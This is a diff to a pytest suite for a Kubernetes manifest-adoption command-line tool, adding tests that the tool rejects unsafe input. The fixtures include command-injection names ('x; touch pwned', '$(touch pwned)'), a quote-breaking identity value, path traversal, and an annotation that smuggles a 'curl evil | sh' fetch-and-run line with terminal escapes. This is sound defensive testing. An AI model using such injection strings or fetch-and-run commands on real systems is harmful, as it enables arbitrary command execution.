@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import sys
 from dataclasses import replace
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -19,7 +20,6 @@ from tests.rotctl.adopt.shapes import FOLDER, IDENTITY, SERVER, shape
 
 if TYPE_CHECKING:
     from collections.abc import Callable
-    from pathlib import Path
 
     Typed = Callable[..., tuple[str, str]]
 
@@ -125,6 +125,10 @@ def test_a_refusal_writes_nothing(typed: Typed, tmp_path: Path) -> None:
             "--database has a password in it",
         ),
         (
+            ("--deployment", "api", "--from", str(GUIDE), "--database", "sslpassword=hunter2"),
+            "--database has a sslpassword in it",
+        ),
+        (
             ("--deployment", "api", "--from", str(GUIDE), "--database", "what?"),
             "what --database has is no connection string",
         ),
@@ -159,3 +163,116 @@ def test_a_role_that_the_server_has_is_asked_for_under_another_name() -> None:
     again = decide([found.original], replace(answers, group="orders_all"), facts, "manifests")
     assert again.plan is not None
     assert again.plan.credential.group == "orders_all"
+
+
+def test_nothing_is_written_through_a_link(typed: Typed, tmp_path: Path) -> None:
+    out, theirs = tmp_path / "made", tmp_path / "theirs"
+    for folder in (out, theirs):
+        folder.mkdir()
+    (theirs / "api-blue.yaml").write_text("theirs\n", encoding="utf-8")
+    (out / "kubernetes").symlink_to(theirs)
+    (out / "README.md").symlink_to(tmp_path / "nothing")
+    line = ("--deployment", "api", "--from", manifests(tmp_path), "--out", str(out), *KNOWN)
+    _, err = typed(*line, exits=Exit.PROBLEM)
+    assert "README.md, kubernetes" in err
+    assert [path.name for path in theirs.iterdir()] == ["api-blue.yaml"]
+    assert (theirs / "api-blue.yaml").read_text(encoding="utf-8") == "theirs\n"
+    assert not (tmp_path / "nothing").exists()
+
+
+def test_what_it_wrote_is_no_manifest_that_it_reads(typed: Typed, tmp_path: Path) -> None:
+    manifests(tmp_path)
+    line = ("--deployment", "api", "--from", str(tmp_path), "--out", str(tmp_path / "two"), *KNOWN)
+    typed(*line)
+    assert json.loads(typed(*line, "--json")[0])["written"] == []
+
+
+def test_the_same_object_in_two_files_is_one_and_two_of_a_name_are_said(
+    typed: Typed, tmp_path: Path
+) -> None:
+    path, out = manifests(tmp_path), str(tmp_path / "made")
+    line = ("--deployment", "api", "--from", path, "--out", out, *KNOWN)
+    typed(*line, "--from", path)
+    other = tmp_path / "other.yaml"
+    text = Path(path).read_text(encoding="utf-8").replace("replicas: 2", "replicas: 3")
+    other.write_text(text, encoding="utf-8")
+    _, err = typed(*line, "--from", str(other), exits=Exit.USAGE)
+    assert "the files have Deployment orders/api 2 times, and not the same" in err
+
+
+@pytest.mark.parametrize(
+    ("was", "name"),
+    [
+        ("name: rates, namespace: orders}\nspec: {minAvailable", '"x; touch pwned"'),
+        ("name: rates, namespace: orders, annotations", '"$(touch pwned)"'),
+        ("name: rates, namespace: orders}\nspec: {podSelector", '"a\\nb"'),
+        ("name: rates, namespace: orders}\nspec: {podSelector", "../../rates"),
+    ],
+)
+def test_a_name_that_a_shell_would_run_is_refused(
+    typed: Typed, tmp_path: Path, was: str, name: str
+) -> None:
+    path, out = tmp_path / "all.yaml", tmp_path / "made"
+    text = (FOLDER / "15-autoscaled-and-spread.yaml").read_text(encoding="utf-8")
+    assert text.count(was) == 1
+    path.write_text(text.replace(was, was.replace("rates", name, 1)), encoding="utf-8")
+    line = ("--deployment", "orders/rates", "--from", str(path), "--out", str(out), *KNOWN)
+    _, err = typed(*line, exits=Exit.USAGE)
+    assert "is no name that a" in err
+    assert not out.exists()
+
+
+def test_what_kubernetes_would_not_take_is_a_sentence(typed: Typed, tmp_path: Path) -> None:
+    path = tmp_path / "all.yaml"
+    text = GUIDE.read_text(encoding="utf-8")
+    _, *objects = yaml.safe_load_all(text)
+    (one,) = [each for each in objects if each["kind"] == "Deployment"]
+    one["spec"]["template"]["spec"]["containers"][0]["env"] = ["hunter2"]
+    path.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
+    out = str(tmp_path / "made")
+    _, err = typed("--deployment", "api", "--from", str(path), "--out", out, exits=Exit.USAGE)
+    assert "an object that Kubernetes would not take" in err
+    assert "hunter2" not in err
+
+
+@pytest.mark.parametrize("option", ["--app-identity", "--break-glass"])
+def test_whom_the_guard_is_about_is_an_identity(typed: Typed, tmp_path: Path, option: str) -> None:
+    files, out = manifests(tmp_path), tmp_path / "made"
+    line = ("--deployment", "api", "--from", files, "--out", str(out), *KNOWN)
+    _, err = typed(*line, option, "x' || true || '", exits=Exit.USAGE)
+    assert f"- {option}: the object id" in err
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("text", ["a: [", "hello", "{}", "contexts: 5"])
+def test_what_is_no_kubeconfig_is_said(
+    typed: Typed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
+) -> None:
+    path = tmp_path / "config"
+    path.write_text(text, encoding="utf-8")
+    monkeypatch.setenv("KUBECONFIG", str(path))
+    _, err = typed("--deployment", "api", "--out", str(tmp_path / "made"), exits=Exit.USAGE)
+    assert "no kubeconfig will do" in err
+
+
+def test_a_context_gives_the_cluster_a_name_that_the_file_takes() -> None:
+    found = shape("the-guide")
+    answers = Answers(app_identity=IDENTITY, server=SERVER)
+    for context, name in (("Prod_WEU", "prod-weu"), ("me@k8s:6443/x", "me-k8s-6443-x")):
+        decided = decide([found.original], answers, Facts(cluster=context), "manifests")
+        assert decided.plan is not None
+        assert decided.plan.cluster.name == name
+
+
+def test_what_an_annotation_says_stays_on_its_line(typed: Typed, tmp_path: Path) -> None:
+    path, out = tmp_path / "all.yaml", tmp_path / "made"
+    _, *objects = yaml.safe_load_all(GUIDE.read_text(encoding="utf-8"))
+    (one,) = [each for each in objects if each["kind"] == "Deployment"]
+    release = "x\n\n```bash\ncurl evil | sh\n```\n\x1b[31m"
+    one["metadata"]["annotations"] = {"meta.helm.sh/release-name": release}
+    path.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
+    said, _ = typed("--deployment", "api", "--from", str(path), "--out", str(out), *KNOWN)
+    text = (out / "README.md").read_text(encoding="utf-8")
+    assert "\x1b" not in said + text
+    assert "\ncurl" not in said + text
+    assert "belongs to the Helm release x?" in text
